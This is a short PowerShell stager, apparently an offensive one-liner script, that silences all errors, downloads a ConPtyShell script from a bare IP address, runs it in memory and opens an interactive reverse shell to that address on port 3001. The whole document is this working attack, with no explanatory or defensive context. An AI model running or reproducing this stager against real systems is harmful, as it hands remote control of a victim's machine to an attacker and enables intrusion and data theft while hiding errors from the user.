$ErrorActionPreference = 'SilentlyContinue'
IEX (IWR -UseBasicParsing http://198.51.100.44/Invoke-ConPtyShell.ps1)
Invoke-ConPtyShell 198.51.100.44 3001
